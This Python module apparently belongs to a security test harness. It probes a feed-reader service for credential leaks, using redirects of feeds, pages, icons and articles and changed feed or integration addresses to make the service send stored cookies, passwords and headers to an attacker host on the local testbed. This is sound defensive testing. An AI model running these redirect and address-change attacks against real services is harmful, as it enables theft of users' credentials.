"""Makes the service send a stored secret to another host: by redirects of a publisher, and by changed addresses.

The secrets are given for a publisher at 127.0.0.1; another one, at 127.0.0.2, belongs to the attacker.
"""

from __future__ import annotations

import base64
import secrets
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from html import escape
from typing import Any

from abuse.attempts import Attempt, Result
from abuse.people import Person, person
from abuse.publisher import Document, Publisher
from abuse.testbed import Testbed

SUCCEEDS_IF = "the secret reaches the other host, or nothing was asked of it where a request was expected"

NAME = "reader"
PAGE = (
    "<html><head></head><body><article>"
    + "<p>A long story about the rain of this day.</p>" * 30
    + "</article></body></html>"
)
FEED_STATUSES = (301, 302, 303, 307, 308)


@dataclass
class _Attack:
    """One attempt. home: the publisher that the secret is for. away: the host of the attacker."""

    user: Person
    home: Publisher
    away: Publisher
    secret: str = field(default_factory=lambda: f"s3cret-{secrets.token_hex(8)}")
    token: str = field(default_factory=lambda: secrets.token_hex(6))

    @property
    def options(self) -> dict[str, str]:
        return {
            "cookie": f"session={self.secret}",
            "user_agent": f"Reader/{self.secret}",
            "username": NAME,
            "password": self.secret,
        }

    def path(self, name: str) -> str:
        return f"/{self.token}/{name}"

    def redirect(self, name: str, status: int) -> str:
        """Redirect a path of the publisher to the same one of the attacker. Returns its URL."""
        to = {"Location": self.away.url(self.path(name))}
        self.home.documents[self.path(name)] = Document(b"", "text/plain", status, to)
        return self.home.url(self.path(name))

    def feed(self, publisher: Publisher, name: str = "feed.xml", *, site: str = "", link: str = "") -> str:
        """Serve a feed with one entry. Returns its URL."""
        url = publisher.url(self.path(name))
        entry = f"<item><title>a</title><guid>a</guid><link>{escape(link or url)}</link></item>"
        title = f"<title>a</title><link>{escape(site or url)}</link>"
        return publisher.serve(self.path(name), f'<rss version="2.0"><channel>{title}{entry}</channel></rss>')

    def subscribe(self, url: str, **more: Any) -> int:
        created: int = self.user.made("POST", "/v1/feeds", {"feed_url": url, **self.options, **more})["feed_id"]
        return created

    def refresh(self, feed_id: int, times: int = 1) -> None:
        for _ in range(times):
            self.user.api("PUT", f"/v1/feeds/{feed_id}/refresh")

    def evidence(self) -> str:
        """Return the beginning of a request to the attacker with the secret, "" without one."""
        basic = base64.b64encode(f"{NAME}:{self.secret}".encode()).decode()
        for seen in self.away.received:
            if self.secret.encode() in seen or basic.encode() in seen:
                return seen[:300].decode(errors="replace")
        return ""

    @property
    def was_asked(self) -> bool:
        return any(f" /{self.token}/" in contact.line for contact in self.away.contacts)


def run(testbed: Testbed) -> Iterator[Result]:
    service = testbed.shared
    with Publisher(host="127.0.0.2") as away:
        for name, (tries, attack) in {**_feed_attacks(testbed), **_integration_attacks(testbed)}.items():
            attempt = Attempt(name, tries, SUCCEEDS_IF)
            tried = _Attack(person(service), testbed.publisher, away)
            expects_request = attack(tried)
            missing = "" if not expects_request or tried.was_asked else "the other host was not asked at all"
            yield Result(attempt, tried.evidence() or missing)


# Makes the attempt, and returns whether the other host must have been asked.
_Make = Callable[[_Attack], bool]


def _feed_attacks(testbed: Testbed) -> dict[str, tuple[str, _Make]]:
    attacks: dict[str, tuple[str, _Make]] = {}
    for status in testbed.choose(FEED_STATUSES, 2):
        attacks |= {
            f"feed moves {status}": ("a feed redirects again and again", _moves(status)),
            f"new feed moved {status}": ("a feed that redirects is subscribed to", _has_moved(status)),
            f"discovery {status}": ("a page redirects to one with a feed", _discovers(status)),
            f"article {status}": ("the page of an entry redirects", _article(status)),
            f"icon {status}": ("the icon and the site redirect", _icon(status)),
        }
    attacks["new address of a feed"] = ("an API client sets only the address of a feed", _changes_feed)
    attacks["link of a feed"] = ("site and entries of a feed are on the other host", _links)
    return attacks


def _moves(status: int) -> _Make:
    def attack(tried: _Attack) -> bool:
        feed_id = tried.subscribe(tried.feed(tried.home))
        tried.feed(tried.away)
        tried.redirect("feed.xml", status)
        tried.refresh(feed_id, 5)
        return True

    return attack


def _has_moved(status: int) -> _Make:
    def attack(tried: _Attack) -> bool:
        tried.feed(tried.away, site=tried.away.url(tried.path("")))
        tried.refresh(tried.subscribe(tried.redirect("feed.xml", status)), 2)
        return True

    return attack


def _discovers(status: int) -> _Make:
    def attack(tried: _Attack) -> bool:
        link = f'<link rel="alternate" type="application/rss+xml" href="{tried.feed(tried.away)}">'
        tried.away.serve(tried.path("page"), f"<html><head>{link}</head></html>", "text/html")
        tried.user.made("POST", "/v1/discover", {"url": tried.redirect("page", status), **tried.options})
        return True

    return attack


def _article(status: int) -> _Make:
    def attack(tried: _Attack) -> bool:
        tried.away.serve(tried.path("story"), PAGE, "text/html")
        story = tried.redirect("story", status)
        feed_id = tried.subscribe(tried.feed(tried.home, link=story), crawler=True)
        for entry in tried.user.made("GET", f"/v1/feeds/{feed_id}/entries")["entries"]:
            tried.user.api("GET", f"/v1/entries/{entry['id']}/fetch-content")
        return True

    return attack


def _icon(status: int) -> _Make:
    def attack(tried: _Attack) -> bool:
        icon = f'<link rel="icon" href="{tried.redirect("icon.png", status)}">'
        tried.home.serve(tried.path("blog"), f"<html><head>{icon}</head></html>", "text/html")
        tried.subscribe(tried.feed(tried.home, site=tried.home.url(tried.path("blog"))))
        return True

    return attack


def _changes_feed(tried: _Attack) -> bool:
    feed_id = tried.subscribe(tried.feed(tried.home))
    tried.user.made("PUT", f"/v1/feeds/{feed_id}", {"feed_url": tried.feed(tried.away)})
    tried.refresh(feed_id)
    return True


def _links(tried: _Attack) -> bool:
    story = tried.away.serve(tried.path("story"), PAGE, "text/html")
    tried.subscribe(tried.feed(tried.home, site=tried.away.url(tried.path("")), link=story), crawler=True)
    return True


def _integration_attacks(testbed: Testbed) -> dict[str, tuple[str, _Make]]:
    members = person(testbed.shared).made("GET", "/v1/integrations")
    names = [name for name, one in members.items() if "url" in one and any(key.startswith("has_") for key in one)]
    attacks: dict[str, tuple[str, _Make]] = {}
    for name in testbed.choose(names, 4):
        attacks[f"address of {name}"] = ("only the address is changed, and a test is sent", _redirected(name, members))
        attacks[f"address of {name}, removed first"] = (
            "the address is removed, then another one is set",
            _redirected(name, members, steps=("",)),
        )
    return attacks


def _redirected(name: str, members: dict[str, Any], steps: tuple[str, ...] = ()) -> _Make:
    def attack(tried: _Attack) -> bool:
        given = {key: "a" for key, value in members[name].items() if value == "" and key not in ("url", "last_error")}
        given |= {key.removeprefix("has_"): tried.secret for key in members[name] if key.startswith("has_")}
        if "headers" in given:
            given["headers"] = f"X-Key: {tried.secret}"
        if "username" in given:
            given["username"] = NAME
        wish = {"enabled": False, "url": tried.home.url(tried.path("")), **given}
        tried.user.made("PUT", "/v1/integrations", {name: wish})
        for url in (*steps, tried.away.url(tried.path(""))):
            tried.user.api("PUT", "/v1/integrations", {name: {"url": url}})
        tried.user.api("PUT", "/v1/integrations", {name: {"enabled": True}})
        tried.user.api("POST", f"/v1/integrations/{name}/test")
        return False

    return attack
